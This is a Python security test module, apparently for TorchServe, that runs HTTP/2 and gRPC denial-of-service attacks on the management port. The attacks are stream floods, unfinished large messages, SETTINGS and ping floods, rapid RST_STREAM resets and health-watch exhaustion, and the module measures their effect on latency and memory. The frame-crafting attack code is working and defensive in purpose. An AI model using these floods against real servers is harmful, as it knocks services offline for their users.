"""Attacks on the management port over gRPC, by clients without a key, in processes of their own.

Another client lists the models meanwhile. The attackers write their frames themselves: gRPC's client would
keep the limits that the server announces.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import statistics
import time
from collections.abc import Callable
from typing import Any

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from tests.security.attack import Outcome, Target, attack
from tests.support.http2_peer import Peer

_SERVICE = "/org.pytorch.serve.grpc.management.ManagementAPIsService/"
_MIB = 1 << 20
_SECONDS = 6.0  # for which the other client is measured
_MAX_ADDED = 64 * _MIB  # bytes of memory during an attack
_FLOOR = 0.25  # seconds of p99 that the attackers' own load on the machine explains
_STREAMS = 125  # of one connection
_CONNECTIONS = 80
_MESSAGE = 6_500_000  # bytes
_MESSAGES = 150

_Attacker = Callable[[str, Any], None]


class FlowControlledPeer:
    """A connection that keeps HTTP/2's windows, as ``h2`` counts them."""

    def __init__(self, address: str) -> None:
        self._peer = Peer(address, b"")
        self._peer.socket.settimeout(0.5)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.open: dict[int, int] = {}  # streams: bytes that are still to be sent
        self._flush()

    def start(self, size: int) -> None:
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, _fields("RegisterModel"))
        self.h2.send_data(stream, b"\0" + (size + 1).to_bytes(4, "big"))  # one byte never comes
        self.open[stream] = size
        self._flush()

    def push(self) -> bool:
        """Send what the windows allow; return whether bytes remain that the server may still accept."""
        for stream, remaining in list(self.open.items()):
            with contextlib.suppress(h2.exceptions.ProtocolError):
                size = min(remaining, self.h2.local_flow_control_window(stream), 16_384)
                if size > 0:
                    self.h2.send_data(stream, bytes(size))
                    self.open[stream] = remaining - size
                    continue
            if remaining <= 0:
                continue
        self._flush()
        self._receive()
        return any(self.open.values())

    def _receive(self) -> None:
        try:
            data = self._peer.socket.recv(1 << 16)
        except TimeoutError:
            return
        if not data:
            self.open.clear()
        for event in self.h2.receive_data(data) if data else ():
            if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                self.open.pop(event.stream_id, None)
            if isinstance(event, h2.events.ConnectionTerminated):
                self.open.clear()
        self._flush()

    def _flush(self) -> None:
        self._peer.socket.sendall(self.h2.data_to_send())

    def close(self) -> None:
        self._peer.socket.close()


def _fields(method: str) -> list[tuple[str, str]]:
    path = _SERVICE + method
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "here", "te": "trailers"}
    return [*fields.items(), ("content-type", "application/grpc")]


def _open_calls(address: str, stop: Any) -> None:
    """Start 10,000 calls whose message never comes."""
    peers = []
    for _ in range(_CONNECTIONS):
        if stop.is_set():
            break
        with contextlib.suppress(OSError):
            peer = Peer(address)
            block = [peer.encoder.encode(_fields("RegisterModel")) for _ in range(_STREAMS)]
            peer.send(*[_frame(1, 4, 2 * i + 1, fields) for i, fields in enumerate(block)])
            peers.append(peer)
    stop.wait(30)
    for peer in peers:
        peer.socket.close()


def _unfinished_messages(address: str, stop: Any) -> None:
    """Send 150 messages of 6.5 MB without their last byte."""
    peers = [FlowControlledPeer(address) for _ in range(2)]
    with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
        for peer in peers:
            for _ in range(_MESSAGES // len(peers)):
                peer.start(_MESSAGE)
        unsent = True
        while unsent and not stop.is_set():
            pushed = [peer.push() for peer in peers]
            unsent = any(pushed)
    stop.wait(30)
    for peer in peers:
        peer.close()


def _settings(address: str, stop: Any) -> None:
    """Send 196 KB of SETTINGS again and again, which change the windows of 100 open streams."""
    change = _frame(4, 0, 0, b"".join(b"\0\4" + (65_535 + i % 2).to_bytes(4, "big") for i in range(2)))
    with contextlib.suppress(OSError), Peer(address) as peer:
        block = [peer.encoder.encode(_fields("RegisterModel")) for _ in range(100)]
        peer.send(*[_frame(1, 4, 2 * i + 1, fields) for i, fields in enumerate(block)])
        while not stop.is_set():
            peer.send(change * (196_000 // len(change)))
            peer.socket.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while peer.socket.recv(1 << 20):
                    pass
            peer.socket.settimeout(1)
    while not stop.is_set():
        with contextlib.suppress(OSError), Peer(address) as peer:
            peer.socket.settimeout(1)
            peer.send(change * (196_000 // len(change)))
            peer.socket.recv(1 << 20)


def _resets(address: str, stop: Any) -> None:
    """Open and reset streams, with an empty DATA frame between HEADERS and RST_STREAM."""
    cancel = (8).to_bytes(4, "big")
    while not stop.is_set():
        with contextlib.suppress(OSError), Peer(address) as peer:
            peer.socket.settimeout(1)
            stream = 1
            while not stop.is_set():
                burst = []
                for _ in range(50):
                    burst.append(_frame(1, 4, stream, peer.encoder.encode(_fields("RegisterModel"))))
                    burst += _frame(0, 0, stream, b"\0\0\0\0\5"), _frame(3, 0, stream, cancel)
                    stream += 2
                peer.send(*burst)


def _pings(address: str, stop: Any) -> None:
    """Send pings as fast as the server reads them, and read none of the responses."""
    burst = _frame(6, 0, 0, bytes(8)) * 1000
    while not stop.is_set():
        with contextlib.suppress(OSError), Peer(address) as peer:
            peer.socket.settimeout(1)
            while not stop.is_set():
                peer.send(burst)


def _watches(address: str, stop: Any) -> None:
    """Hold 2,000 streams of the health service, which needs no key."""
    with contextlib.ExitStack() as stack:
        for _ in range(20):
            options = [("grpc.use_local_subchannel_pool", 1)]
            channel = stack.enter_context(grpc.insecure_channel(address, options=options))
            watch = channel.unary_stream("/grpc.health.v1.Health/Watch")
            for _ in range(100):
                watch(b"")
        stop.wait(30)


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def _list_models(channel: grpc.Channel, key: str, seconds: float) -> tuple[list[float], int]:
    """List the models again and again; return the latencies in seconds, and the number of failures."""
    call = channel.unary_unary(_SERVICE + "ListModels")
    metadata = [("authorization", f"Bearer {key}")]
    latencies: list[float] = []
    failed = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        started_at = time.perf_counter()
        try:
            call(b"", metadata=metadata, timeout=10)
        except grpc.RpcError:
            failed += 1
        latencies.append(time.perf_counter() - started_at)
        time.sleep(0.005)
    return latencies, failed


def _p99(latencies: list[float]) -> float:
    return statistics.quantiles(latencies, n=100)[98] if len(latencies) > 1 else latencies[0]


def measure(target: Target, attacker: _Attacker, ramp: float = 1.0, max_added: int = _MAX_ADDED) -> Outcome:
    """Run an attacker beside another client; return what it does to latency and memory."""
    key = target.keys["ops"]
    processes = multiprocessing.get_context("spawn")
    with grpc.insecure_channel(target.management_grpc) as channel:
        quiet, _ = _list_models(channel, key, 2.0)
        before = target.memory()
        stop = processes.Event()
        process = processes.Process(target=attacker, args=(target.management_grpc, stop), daemon=True)
        process.start()
        try:
            time.sleep(ramp)
            latencies, failed = _list_models(channel, key, _SECONDS)
            added = target.memory() - before
        finally:
            stop.set()
            process.join(10)
            process.kill()
    until = time.monotonic() + 10
    while (left := target.memory() - before) > 16 * _MIB and time.monotonic() < until:
        time.sleep(0.5)
    p99, base = _p99(latencies), _p99(quiet)
    resisted = not failed and p99 < max(2 * base, _FLOOR) and max(added, left) < max_added
    return Outcome(
        f"p99 {p99 * 1000:.0f} ms (quiet {base * 1000:.0f}), {failed} of {len(latencies)} failed, "
        f"+{added / _MIB:.0f} MiB, {left / _MIB:.0f} left",
        resisted,
    )


@attack("management_grpc", "10,000 calls without a message or a key", "p99 10 ms, +76 MiB, 74 left")
def open_calls(target: Target) -> Outcome:
    return measure(target, _open_calls, ramp=4.0)


@attack("management_grpc", "150 unfinished messages of 6.5 MB", "p99 13 ms, +74 MiB, 52 left")
def unfinished_messages(target: Target) -> Outcome:
    return measure(target, _unfinished_messages, ramp=8.0)


@attack("management_grpc", "SETTINGS of 196 KB, repeated", "p99 82 ms, +193 MiB, 106 left")
def settings(target: Target) -> Outcome:
    # gRPC buffers its acknowledgements, which no option limits; see tests/security/README.md.
    return measure(target, _settings, max_added=512 * _MIB)


@attack("management_grpc", "resets interleaved with DATA", "p99 2,934 ms, 62 of 67 failed, +79 MiB")
def resets(target: Target) -> Outcome:
    return measure(target, _resets)


@attack("management_grpc", "pings as fast as they are read", "p99 29 ms, +2 MiB")
def pings(target: Target) -> Outcome:
    return measure(target, _pings)


@attack("management_grpc", "2,000 watches of the health service", "p99 143 ms, +15 MiB")
def watches(target: Target) -> Outcome:
    return measure(target, _watches, ramp=3.0)
